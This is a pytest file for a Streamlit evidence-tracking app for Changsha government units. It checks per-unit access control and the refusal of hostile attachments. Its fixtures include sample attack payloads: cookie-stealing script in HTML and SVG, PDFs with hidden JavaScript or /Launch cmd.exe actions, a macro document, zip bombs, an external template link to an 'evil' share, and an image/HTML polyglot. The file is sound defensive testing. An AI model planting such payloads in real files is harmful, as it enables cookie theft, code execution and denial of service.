"""A unit account (issue 25) reaches only its own units' 整改 items and evidence: not through the page, a URL, a
forged widget value or the store API; and hostile attachments are refused with nothing stored."""
from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from PIL import Image
from streamlit.testing.v1 import AppTest

import sample_data
from evalcore import evidence
from evalcore.auth import Actor, PermissionDenied
from evalcore.evidence import EvidenceError
from evalcore.store import T_RECT_EVENT, T_RECT_FILE
from tests.accounts import CLI_ADMIN, PASSWORD, password_store
from tests.unit.badfiles import raw_zip, zeros_gib

ROOT = Path(__file__).resolve().parents[2]
MY = "pages/9_my_items.py"
DSJ = Actor("dsj", "unit", "password")  # 长沙市数据局: Z02 Z03 Z05 Z12
ZX = Actor("zx", "unit", "password")  # 长沙市大数据中心: Z01 ...
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")


@pytest.fixture
def app_store(tmp_path, monkeypatch):
    s = password_store(tmp_path, monkeypatch, {"li": "evaluator"})
    s.add_user("dsj", "unit", PASSWORD, by=CLI_ADMIN, units=["长沙市数据局"])
    s.add_user("zx", "unit", PASSWORD, by=CLI_ADMIN, units=["长沙市大数据中心"])
    s.report_progress(ZX, 1, "Z15", "数据中心的报送：机密内容甲", [("数据中心材料.pdf", PDF)])
    yield s
    s.dispose()


def signed_in_unit(query: dict[str, str] | None = None) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.text_input(key="_sign_in_name").input("dsj")
    at.text_input(key="_sign_in_password").input(PASSWORD)
    at.button(key="FormSubmitter:sign_in_form-登录").click().run()
    if query:
        for k, v in query.items():
            at.query_params[k] = v
    at.switch_page(MY).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def shown(at: AppTest) -> str:
    parts = [str(e.value) for kind in ("markdown", "caption", "subheader", "info", "warning", "error", "success")
             for e in getattr(at, kind)]
    parts += [d.value.to_csv() for d in at.dataframe]
    parts += [str(b.proto) for b in at.get("download_button")]
    return "\n".join(parts)


def test_the_page_lists_only_the_units_own_items(app_store):
    at = signed_in_unit()
    text = shown(at)
    assert "Z05" in text and "Z15" not in text and "机密内容甲" not in text and "数据中心材料" not in text


def test_a_url_naming_another_units_item_is_refused(app_store):
    at = signed_in_unit({"item": "1:Z15"})
    assert "无权查看该整改事项，或该事项不存在。" in [e.value for e in at.error]
    text = shown(at)
    assert "机密内容甲" not in text and "数据中心材料" not in text and "提升政务云资源调度" not in text
    assert any(e.target == "整改事项 1:Z15" for e in app_store.audit_log(actions=["denied"], actor="dsj"))


def test_a_forged_widget_value_is_refused(app_store):
    # the item picker's state set to a value it never offered, before the page draws it
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.text_input(key="_sign_in_name").input("dsj")
    at.text_input(key="_sign_in_password").input(PASSWORD)
    at.button(key="FormSubmitter:sign_in_form-登录").click().run()
    at.session_state["my_item"] = "1:Z15"
    at.switch_page(MY).run()
    assert not at.exception, [e.value for e in at.exception]
    assert "无权查看该整改事项，或该事项不存在。" in [e.value for e in at.error]
    assert "机密内容甲" not in shown(at) and "数据中心材料" not in shown(at)
    # the page goes on with the unit's own items; a report goes to the item shown, never to Z15
    at.selectbox(key="my_item").set_value("1:Z05").run()
    at.text_area(key="my_report_text").input("本单位的报送")
    at.button(key="FormSubmitter:my_report_form-报送").click().run()
    assert app_store.loop_item(DSJ, 1, "Z05").steps[-1].text == "本单位的报送"
    assert [s.text for s in app_store.loop_item(ZX, 1, "Z15").steps] == ["数据中心的报送：机密内容甲"]


def test_a_forged_value_on_the_wire_never_shows_another_units_item(app_store):
    at = signed_in_unit()
    picker = at.selectbox(key="my_item")
    picker.options.append("1:Z15")  # what a hand-made websocket message could send
    picker.set_value("1:Z15")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert "机密内容甲" not in shown(at) and "数据中心材料" not in shown(at) and "提升政务云资源调度" not in shown(at)


def test_the_store_api_refuses_another_units_item_and_evidence(app_store):
    with pytest.raises(PermissionDenied):
        app_store.loop_item(DSJ, 1, "Z15")
    with pytest.raises(PermissionDenied):
        app_store.report_progress(DSJ, 1, "Z15", "替别的单位报送")
    file_id = app_store.loop_item(ZX, 1, "Z15").steps[0].files[0].id
    with pytest.raises(PermissionDenied):
        app_store.evidence_file(DSJ, file_id)
    with pytest.raises(PermissionDenied):
        app_store.send_back(DSJ, 1, "Z15", "单位不能退回")
    with pytest.raises(PermissionDenied):
        app_store.accept(DSJ, 1, "Z15")
    with pytest.raises(PermissionDenied):
        app_store.publish(sample_data.WORKBOOK.read_bytes(), file_name="x.xlsx", by=DSJ)
    with pytest.raises(PermissionDenied):
        app_store.rollback(1, 1, by=DSJ)
    with pytest.raises(PermissionDenied):
        app_store.set_units("dsj", ["长沙市大数据中心"], by=DSJ)
    from evalcore import catalog
    with pytest.raises(PermissionDenied):  # an alias would widen the unit's reach: the bureau's alone
        catalog.set_alias(app_store, "长沙市大数据中心", "长沙市数据局", by=DSJ)
    assert all(i.unit == "市数据局" for i in app_store.loop_items(DSJ))
    assert app_store.loop_item(ZX, 1, "Z15").state == "待审核"


# --- hostile attachments ---------------------------------------------------------------------------------------


def docx_bytes(extra: dict[str, bytes] | None = None, types_edit: tuple[bytes, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    d = docx.Document()
    d.add_paragraph("整改说明")
    d.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info)
            if types_edit and info.filename == "[Content_Types].xml":
                data = data.replace(*types_edit)
            z.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def macro_docm() -> bytes:
    return docx_bytes({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
                      (b"document.main+xml", b"document.macroEnabled.main+xml"))


def docx_bomb() -> bytes:
    src = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    entries = [(i.filename, _deflate(d), zlib.crc32(d), len(d)) for i in src.infolist() for d in [src.read(i)]]
    bomb, crc, size = zeros_gib()
    return raw_zip([*entries, ("word/media/image1.png", bomb, crc, size)])


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"
JS_PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/J#61vaScript/JS(app.alert(1))>>"
          b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def _flate_js_pdf() -> bytes:
    body = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    return (b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(body)).encode()
            + b">>stream\n" + body + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


@pytest.mark.parametrize(("name", "make", "why"), [
    ("整改报告.pdf", macro_docm, "Word 文档（.docx），但扩展名为 .pdf"),
    ("整改报告.docx", macro_docm, "宏"),
    ("佐证.docx", docx_bomb, "压缩炸弹"),
    ("图.svg", lambda: SVG, "SVG"),
    ("照片.jpg", lambda: HTML, "网页（HTML）"),
    ("说明.pdf", lambda: JS_PDF, "JavaScript"),
    ("压缩流.pdf", _flate_js_pdf, "JavaScript"),
    ("旧版.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), "旧版 Office"),
    ("外链.docx", lambda: docx_bytes({"word/_rels/extra.xml.rels": (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="file://evil/share/t.dotm" TargetMode="External"/></Relationships>')}),
     "外部链接"),
    ("嵌入.docx", lambda: docx_bytes({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
     "嵌入"),
])
def test_hostile_attachments_are_refused_with_nothing_stored(store, name, make, why):
    store.ensure_sample(sample_data.WORKBOOK)
    store.add_user("dsj", "unit", PASSWORD, by=CLI_ADMIN, units=["长沙市数据局"])
    data = make()
    with pytest.raises(EvidenceError) as caught:
        store.report_progress(DSJ, 1, "Z05", "附材料", [("正常.pdf", PDF), (name, data)])
    assert why in str(caught.value) and name in str(caught.value)
    with store.engine.connect() as conn:
        assert conn.execute(T_RECT_FILE.select()).all() == [] and conn.execute(T_RECT_EVENT.select()).all() == []
    assert store.loop_item(DSJ, 1, "Z05").state == "待报送"


def test_an_image_is_reencoded_so_nothing_rides_along(store):
    store.ensure_sample(sample_data.WORKBOOK)
    store.add_user("dsj", "unit", PASSWORD, by=CLI_ADMIN, units=["长沙市数据局"])
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(buf, format="PNG")
    polyglot = buf.getvalue() + HTML  # an HTML page riding after the image's end
    store.report_progress(DSJ, 1, "Z05", "照片", [("现场.png", polyglot)])
    [f] = store.loop_item(DSJ, 1, "Z05").steps[0].files
    _, data = store.evidence_file(DSJ, f.id)
    assert b"<script" not in data and data != polyglot
    assert Image.open(io.BytesIO(data)).getpixel((3, 3)) == (10, 120, 200)


def test_size_and_count_limits(store):
    with pytest.raises(EvidenceError, match="文件过大"):
        evidence.check_file("大.pdf", PDF + bytes(evidence.MAX_FILE_BYTES))
    with pytest.raises(EvidenceError, match=f"最多 {evidence.MAX_FILES} 个"):
        evidence.check_files([(f"{i}.pdf", PDF) for i in range(evidence.MAX_FILES + 1)])
    assert [f.kind for f in evidence.check_files([("a.pdf", PDF), ("b.docx", docx_bytes())])] == ["pdf", "docx"]


def _pdf_with_stream(dictionary: bytes, body: bytes) -> bytes:
    return (b"%PDF-1.5\n1 0 obj<<" + dictionary + b"/Length " + str(len(body)).encode() + b">>stream\n" + body
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


@pytest.mark.parametrize(("pdf", "why"), [
    (_pdf_with_stream(b"/Type/ObjStm/Filter/ASCIIHexDecode", b"<</S/JavaScript/JS(x)>>".hex().encode() + b">"),
     "JavaScript"),
    (_pdf_with_stream(b"/Type/ObjStm/Filter[/ASCII85Decode/FlateDecode]",
                      __import__("base64").a85encode(zlib.compress(b"<</S/Launch/F(cmd.exe)>>")) + b"~>"),
     "/Launch"),
    (_pdf_with_stream(b"/Type/ObjStm/Filter/LZWDecode", b"\x80\x0b\x60\x50"), "无法检查的数据流编码"),
    (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 2 0 R>>\n%%EOF\n", "已加密"),
    (_pdf_with_stream(b"/Filter/FlateDecode", zlib.compress(bytes(4 * 1024 * 1024), 9)), "压缩炸弹"),
])
def test_pdfs_hiding_actions_in_encoded_streams_are_refused(pdf, why, monkeypatch):
    monkeypatch.setattr(evidence, "MAX_INFLATED", 1024 * 1024)  # the bomb: 4 MB of zeros over a 1 MB budget
    with pytest.raises(EvidenceError, match=why):
        evidence.check_file("说明.pdf", pdf)


def test_real_documents_are_accepted():
    buf = io.BytesIO()
    Image.new("RGB", (200, 100), (240, 240, 240)).save(buf, format="PDF")  # a real PDF writer's output
    real = [("扫描件.pdf", buf.getvalue()), ("说明.docx", docx_bytes()),
            ("台账.xlsx", sample_data.WORKBOOK.read_bytes())]
    assert [f.kind for f in evidence.check_files(real)] == ["pdf", "docx", "xlsx"]


def test_a_photos_metadata_is_not_kept():
    exif = Image.Exif()
    exif[0x010F] = "相机厂商"  # Make
    exif[0x8825] = {2: (28.0, 12.0, 0.0)}  # GPS: where the photo was taken
    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (90, 90, 90)).save(buf, format="JPEG", exif=exif, comment=b"<script>x</script>")
    assert Image.open(io.BytesIO(buf.getvalue())).getexif()
    checked = evidence.check_file("现场照片.jpg", buf.getvalue())
    assert checked.kind == "jpg" and not Image.open(io.BytesIO(checked.data)).getexif()
    assert b"<script>" not in checked.data
    with pytest.raises(EvidenceError, match="扩展名为 .png"):
        evidence.check_file("现场照片.png", buf.getvalue())
